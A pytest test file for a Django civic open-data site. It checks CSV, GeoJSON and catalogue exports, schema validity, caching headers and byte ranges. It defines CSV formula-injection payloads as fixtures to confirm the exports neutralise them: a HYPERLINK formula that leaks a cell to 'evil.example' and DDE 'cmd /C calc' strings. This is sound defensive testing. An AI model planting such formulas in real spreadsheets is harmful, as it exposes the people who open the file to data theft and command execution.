"""Open data: spreadsheet-safe CSV with a byte-order mark everywhere, empty values as empty cells
and ``null``, the data catalogue and its Data Package, every CSV valid against its Table Schema
(frictionless, on the demo data), HEAD and conditional GET on every file."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.models import Organisation
from core import csvfile
from evaluation.opendata.catalogue import DATASETS
from pactes.models import Commons, Party
from tests.pactes import register_helpers

register_pact = register_helpers.register_pact

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
HOSTILE_GROUP = "+cmd|' /C calc'!A0"
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
CSV_URLS = [
    "/pactes/export.csv",
    "/pactes/biens-communs/export.csv",
    "/moderation/registre.csv",
    "/tableau-de-bord/indicateurs.csv",
    "/debats/seances.csv",
]


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _rows(response) -> list[dict]:
    body = _content(response)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Jardin = partage", "Jardin = partage"),
        (-1.554, -1.554),
        (-3, -3),
        (None, ""),
        (True, "true"),
    ],
)
def test_safe_cell_neutralises_only_text_a_spreadsheet_would_run(value, expected):
    assert csvfile.safe_cell(value) == expected


def test_pact_register_csv_neutralises_the_hostile_values_of_a_resident(client, register_pact):
    pact = register_pact(title=HOSTILE_TITLE)
    Commons.objects.filter(pk=pact.commons_id).update(address=HOSTILE_ADDRESS, longitude="-1.553600")
    Organisation.objects.filter(pact_parties__pact=pact).exclude(kind="city_department").update(name=HOSTILE_GROUP)

    rows = _rows(client.get("/pactes/export.csv"))

    (row,) = rows
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["address"] == "'" + HOSTILE_ADDRESS
    assert row["organisations"].startswith("'+cmd") or row["organisations"] == "'" + HOSTILE_GROUP + " ; Ville"
    assert row["longitude"] == "-1.5536"  # a number stays a number
    geojson = json.loads(_content(client.get("/pactes/export.geojson")))
    # JSON is not read by spreadsheets: the value is given as typed.
    assert geojson["features"][0]["properties"]["title"] == HOSTILE_TITLE


def test_commons_csv_neutralises_hostile_names(client, register_pact):
    pact = register_pact(title="Jardin")
    Commons.objects.filter(pk=pact.commons_id).update(name="-1+1 =cmd", description="\t@danger")

    (row,) = _rows(client.get("/pactes/biens-communs/export.csv"))

    assert row["name"] == "'-1+1 =cmd"
    assert row["description"] == "'\t@danger"
    assert row["pacts"] == "1" and row["pact_ids"] == str(pact.pk)


def test_every_csv_has_a_byte_order_mark_and_crlf_line_ends(client, register_pact):
    register_pact(title="Jardin")
    for url in CSV_URLS:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "text/csv; charset=utf-8", url
        body = _content(response)
        assert body.startswith(b"\xef\xbb\xbf"), url
        assert body.endswith(b"\r\n"), url


def test_empty_values_are_empty_cells_in_csv_and_null_in_json(client, register_pact):
    register_pact(title="Jardin", status="submitted")

    (row,) = _rows(client.get("/pactes/export.csv"))
    feature = json.loads(_content(client.get("/pactes/export.geojson")))["features"][0]["properties"]

    for name in ["end_reason", "signed_fingerprint", "activated_at", "start_date", "engagement_title", "address"]:
        assert row[name] == "", name
        assert feature[name] is None, name
    assert "" not in feature.values()
    assert feature["submitted_at"][10] == "T" and "." not in feature["submitted_at"]


def test_dashboard_json_gives_null_for_empty_values(client, register_pact):
    register_pact(title="Jardin")
    data = json.loads(client.get("/tableau-de-bord/indicateurs.json").content)
    records = [record for figure in data["figures"] for record in figure["records"]]
    assert records
    assert all(record["engagement"] is None for record in records)
    assert not any(value == "" for record in records for value in record.values())


def test_register_carries_district_proponent_council_act_signed_text_and_theme(client):
    from pactes.models import Pact

    signed = Pact.objects.get(pk=_signed_pact().pk)
    rows = {int(row["id"]): row for row in _rows(client.get("/pactes/export.csv"))}
    row = rows[signed.pk]
    assert row["neighbourhood"] == signed.commons.neighbourhood
    assert row["proponent_kind"] == signed.proponent_kind
    assert row["council_decision_reference"] == "Délibération 2027-042"
    assert row["signed_pdf_url"].endswith(f"/pactes/{signed.pk}/versions/{row['signed_version']}.pdf")
    assert row["signed_text_url"].endswith(f"/pactes/{signed.pk}/versions/{row['signed_version']}.json")
    assert client.get(row["signed_pdf_url"].split("testserver", 1)[1]).status_code == 200
    assert row["engagement_number"] == "4"


def _load_demo_with_a_moderation_decision(capture):
    """The demo content, and one decision in the moderation register (the demo room has none):
    the demo resident posts an insult, which the room's rules hold for review."""
    import uuid

    from accounts.models import User
    from debates import services
    from debates.models import Debate
    from moderation.models import ModerationAction

    call_command("load_demo", force=True, stdout=io.StringIO())
    debate = Debate.objects.get(status=Debate.Status.OPEN, visibility=Debate.Visibility.PUBLIC)
    resident = User.objects.get(email="habitant@example.org")
    services.debate_accept_charter(actor=resident, debate=debate)
    with capture(execute=True):
        services.message_post(actor=resident, debate=debate, client_id=uuid.uuid4(), body="Bande de connards")
    assert ModerationAction.objects.exists()


def _signed_pact():
    """The demo's active, signed pact, with a council act."""
    from pactes.models import Pact

    call_command("load_demo", force=True, stdout=io.StringIO())
    pact = Pact.objects.filter(status=Pact.Status.ACTIVE).select_related("commons").first()
    Pact.objects.filter(pk=pact.pk).update(council_decision_reference="Délibération 2027-042")
    return pact


def test_data_catalogue_describes_every_dataset_with_licence_and_producer(client, settings):
    settings.CITY_NAME = "Ville-Exemple"
    settings.CITY_INSEE_CODE = "99999"
    settings.CITY_SIREN = "219999999"

    response = client.get("/donnees/datapackage.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    package = json.loads(response.content)
    assert package["licenses"][0]["name"] == "etalab-2.0"
    assert package["publisher"] == package["contributors"][0]
    assert package["publisher"]["title"] == "Ville-Exemple"
    assert package["publisher"]["insee_code"] == "99999" and package["publisher"]["siren"] == "219999999"
    tables = {r["name"]: r for r in package["resources"] if r.get("schema")}
    assert set(tables) == {"pactes", "biens-communs", "registre-moderation", "indicateurs", "seances-debats", "offres"}
    for resource in package["resources"]:
        assert resource["path"].startswith("http://testserver/"), resource["name"]
        assert resource["licenses"] and resource["update_frequency"]
        assert client.head(resource["path"].removeprefix("http://testserver")).status_code == 200
    pacts = tables["pactes"]["schema"]
    status = next(f for f in pacts["fields"] if f["name"] == "status")
    assert "draft" not in status["constraints"]["enum"] and "active" in status["constraints"]["enum"]
    assert status["description"] == "Le statut du pacte, sous forme de code."  # French
    assert {r["format"] for r in package["resources"]} == {"csv", "geojson", "json", "ics"}


def test_licence_is_a_setting(client, settings):
    settings.OPEN_DATA_LICENCE = {"name": "ODbL-1.0", "title": "ODbL", "path": "https://opendatacommons.org/"}
    package = json.loads(client.get("/donnees/datapackage.json").content)
    assert package["licenses"] == [settings.OPEN_DATA_LICENCE]


def test_data_catalogue_page_lists_every_dataset_and_its_columns(client):
    page = client.get("/donnees/").content.decode()
    for dataset in DATASETS:
        assert str(dataset.title) in page or dataset.name in page
    for column in ["signed_fingerprint", "seconds_to_decision", "pact_ids", "uid", "figure"]:
        assert f"<code>{column}</code>" in page
    assert "Licence Ouverte" in page and "datapackage.json" in page


def test_every_dataset_is_valid_against_its_table_schema_on_the_demo_data(
    client, tmp_path, django_capture_on_commit_callbacks
):
    """What a portal's validator does: each CSV, fetched from the site, read with the dialect,
    encoding and Table Schema the catalogue gives, with frictionless."""
    from frictionless import Resource, Schema

    _load_demo_with_a_moderation_decision(django_capture_on_commit_callbacks)
    package = json.loads(client.get("/donnees/datapackage.json").content)
    checked = 0
    for descriptor in package["resources"]:
        if "schema" not in descriptor:
            continue
        body = _content(client.get(descriptor["path"].removeprefix("http://testserver")))
        (tmp_path / f"{descriptor['name']}.csv").write_bytes(body)
        assert body.count(b"\r\n") > 1, f"{descriptor['name']} has no rows in the demo"
        resource = Resource(
            path=f"{descriptor['name']}.csv",
            basepath=str(tmp_path),
            format="csv",
            encoding=descriptor["encoding"],
            schema=Schema.from_descriptor(descriptor["schema"]),
        )
        report = resource.validate()
        errors = [f"{e.type}: {e.message}" for task in report.tasks for e in task.errors]
        assert report.valid, (descriptor["name"], errors[:5])
        checked += 1
    assert checked == 6


def test_a_hostile_register_still_validates_against_its_schema(client, register_pact, tmp_path):
    from frictionless import Resource, Schema

    pact = register_pact(title=HOSTILE_TITLE)
    Commons.objects.filter(pk=pact.commons_id).update(address=HOSTILE_ADDRESS)
    Party.objects.filter(pact=pact, organisation__kind="association").update()
    package = json.loads(client.get("/donnees/datapackage.json").content)
    schema = next(r for r in package["resources"] if r["name"] == "pactes")["schema"]
    (tmp_path / "p.csv").write_bytes(_content(client.get("/pactes/export.csv")))
    report = Resource(
        path="p.csv", basepath=str(tmp_path), encoding="utf-8-sig", schema=Schema.from_descriptor(schema)
    ).validate()
    assert report.valid, report.flatten(["type", "message"])[:5]


FILES = [
    "/pactes/export.csv",
    "/pactes/export.geojson",
    "/pactes/biens-communs/export.csv",
    "/moderation/registre.csv",
    "/tableau-de-bord/indicateurs.csv",
    "/tableau-de-bord/indicateurs.json",
    "/debats/seances.csv",
    "/debats/agenda.ics",
    "/offres/offres.csv",
    "/offres/offres.geojson",
    "/offres/offres.ics",
    "/donnees/datapackage.json",
    "/actualites/rss.xml",
    "/actualites/atom.xml",
]


def test_every_file_answers_head_and_304_to_a_conditional_get(client, django_capture_on_commit_callbacks):
    _load_demo_with_a_moderation_decision(django_capture_on_commit_callbacks)
    for url in FILES:
        got = client.get(url)
        assert got.status_code == 200, url
        head = client.head(url)
        assert head.status_code == 200, url
        assert _content(head) == b"", url
        assert head["Content-Type"] == got["Content-Type"], url
        etag = got["ETag"]
        assert client.get(url, headers={"if-none-match": etag}).status_code == 304, url
        assert client.head(url, headers={"if-none-match": etag}).status_code == 304, url
        if got.has_header("Last-Modified"):
            assert client.get(url, headers={"if-modified-since": got["Last-Modified"]}).status_code == 304, url


def test_pact_export_validators_change_when_a_pact_changes(client, register_pact, time_machine):
    from pactes.models import Pact

    time_machine.move_to("2027-03-01 10:00:00+01:00", tick=False)
    pact = register_pact(title="Jardin")
    first = client.get("/pactes/export.csv")
    etag, modified = first["ETag"], first["Last-Modified"]
    assert client.get("/pactes/export.csv", headers={"if-none-match": etag}).status_code == 304
    assert client.get("/pactes/export.csv", headers={"if-modified-since": modified}).status_code == 304

    time_machine.move_to("2027-03-01 10:05:00+01:00", tick=False)
    Pact.objects.filter(pk=pact.pk).update(council_decision_reference="Délibération 12")

    fresh = client.get("/pactes/export.csv", headers={"if-none-match": etag})
    assert fresh.status_code == 200 and fresh["ETag"] != etag
    assert client.get("/pactes/export.csv", headers={"if-modified-since": modified}).status_code == 200
    assert client.get("/pactes/export.geojson", headers={"if-none-match": etag}).status_code == 200


def test_pages_and_views_answer_head(client):
    call_command("load_demo", force=True, stdout=io.StringIO())
    from debates.models import Debate
    from pactes.models import Pact

    pact = Pact.objects.filter(status=Pact.Status.ACTIVE).first()

    debate = Debate.objects.filter(visibility="public").first()
    urls = [
        "/",
        "/pactes/",
        f"/pactes/{pact.pk}/",
        "/pactes/biens-communs/",
        "/pactes/verifier/",
        f"/pactes/{pact.pk}/versions/1/",
        f"/pactes/{pact.pk}/versions/1.json",
        f"/pactes/{pact.pk}/versions/1.pdf",
        "/debats/",
        debate.get_absolute_url(),
        f"/debats/{debate.slug}/agenda.ics",
        f"/debats/{debate.slug}/transcription.json",
        "/tableau-de-bord/",
        "/moderation/registre/",
        "/donnees/",
        "/robots.txt",
        "/sitemap.xml",
        "/healthz",
        reverse("pactes:card", args=[pact.pk]),
    ]
    for url in urls:
        response = client.head(url)
        assert response.status_code == 200, (url, response.status_code)


def test_geojson_answers_byte_ranges_as_gdal_vsicurl_asks(client, register_pact):
    for n in range(3):
        register_pact(title=f"Jardin {n}")
    whole = _content(client.get("/pactes/export.geojson"))

    head = client.head("/pactes/export.geojson")
    assert head["Accept-Ranges"] == "bytes"
    assert int(head["Content-Length"]) == len(whole)

    first = client.get("/pactes/export.geojson", headers={"range": "bytes=0-99"})
    assert first.status_code == 206
    assert first["Content-Range"] == f"bytes 0-99/{len(whole)}"
    assert first.content == whole[:100]
    rest = client.get("/pactes/export.geojson", headers={"range": "bytes=100-"})
    assert first.content + rest.content == whole
    tail = client.get("/pactes/export.geojson", headers={"range": "bytes=-10"})
    assert tail.status_code == 206 and tail.content == whole[-10:]
    beyond = client.get("/pactes/export.geojson", headers={"range": f"bytes={len(whole) + 5}-"})
    assert beyond.status_code == 416 and beyond["Content-Range"] == f"bytes */{len(whole)}"
    # A range on an older version of the file (If-Range) gets the current file whole.
    stale = client.get("/pactes/export.geojson", headers={"range": "bytes=0-9", "if-range": '"old"'})
    assert stale.status_code == 200 and stale.content == whole
    # Several ranges, or nonsense: the whole file, as RFC 9110 allows.
    assert client.get("/pactes/export.geojson", headers={"range": "bytes=0-1,5-6"}).content == whole
    # A plain GET still streams.
    assert client.get("/pactes/export.geojson").streaming


def test_every_column_of_every_dataset_is_documented():
    from pathlib import Path

    from evaluation.opendata.schemas import SCHEMAS

    doc = (Path(__file__).resolve().parents[2] / "docs" / "open-data.md").read_text(encoding="utf-8")
    for name, (columns, _fields, _key) in SCHEMAS.items():
        for column in columns:
            assert f"`{column}`" in doc, (name, column)
